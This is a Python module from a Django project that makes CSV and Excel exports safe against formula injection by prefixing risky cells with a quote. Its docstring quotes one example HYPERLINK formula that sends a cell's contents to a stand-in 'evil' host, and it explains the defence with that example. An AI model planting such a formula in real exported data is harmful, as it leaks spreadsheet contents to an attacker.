"""CSV that is safe to open in a spreadsheet (issue 9). Every export of the project writes through here.

A cell that begins with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return, which some spreadsheets
skip before reading a formula) is taken for a formula by Excel, LibreOffice and WPS: an entity name such as
``=HYPERLINK("http://evil/?"&A1,"click")`` would run in the auditor's spreadsheet. :func:`csv_safe` puts a
single quote in front of such text, which spreadsheets show as text and never evaluate (OWASP "CSV
injection"). Numbers are left alone: a real ``-5`` is a number, not a formula.
"""

import csv
import datetime
import decimal
import io

from django.http import HttpResponse
from django.utils import timezone
from django.utils.http import content_disposition_header

# Full-width forms too: Chinese input methods produce them, and some spreadsheet builds read them as ASCII.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def csv_safe(value):
    """The cell value to write: text that a spreadsheet would evaluate gets a leading ``'``.

    ``None`` becomes ``""``; numbers, dates and booleans are returned unchanged; anything else is
    turned into text first (so lazy translations and model instances are covered too).
    """
    if type(value) is str:  # the common case first: the bulk downloads write millions of cells
        return "'" + value if value.startswith(FORMULA_PREFIXES) else value
    if value is None:
        return ""
    if isinstance(value, bool | int | float | decimal.Decimal | datetime.date | datetime.time):
        return value
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


class SafeCSVWriter:
    """``csv.writer`` whose every cell goes through :func:`csv_safe`."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([csv_safe(value) for value in row])

    def writerows(self, rows):
        self._writer.writerows([csv_safe(value) for value in row] for row in rows)


def csv_response(filename: str, header, rows) -> HttpResponse:
    """A CSV download: UTF-8 with a byte-order mark (so Excel reads Chinese correctly), always an attachment.

    The content is never rendered by the browser, and never cached.
    """
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    response["X-Content-Type-Options"] = "nosniff"
    response["Cache-Control"] = "no-store, private"
    response.write("\ufeff")
    writer = SafeCSVWriter(response)
    writer.writerow(header)
    writer.writerows(rows)
    return response


def _xlsx_cell(value):
    """What openpyxl writes: ``csv_safe`` text (never a formula) and local, naive times (Excel has no zones)."""
    value = csv_safe(value)
    if isinstance(value, datetime.datetime) and value.tzinfo is not None:
        return timezone.localtime(value).replace(tzinfo=None)
    return value


def xlsx_response(filename: str, header, rows) -> HttpResponse:
    """An Excel (XLSX) download with the same protections as :func:`csv_response`.

    openpyxl stores a text cell beginning with ``=`` as a formula; every cell goes through :func:`csv_safe` first,
    so such text is kept as text.
    """
    from openpyxl import Workbook

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append([_xlsx_cell(value) for value in header])
    for row in rows:
        sheet.append([_xlsx_cell(value) for value in row])
    content = io.BytesIO()
    workbook.save(content)
    response = HttpResponse(
        content.getvalue(), content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    response["X-Content-Type-Options"] = "nosniff"
    response["Cache-Control"] = "no-store, private"
    return response
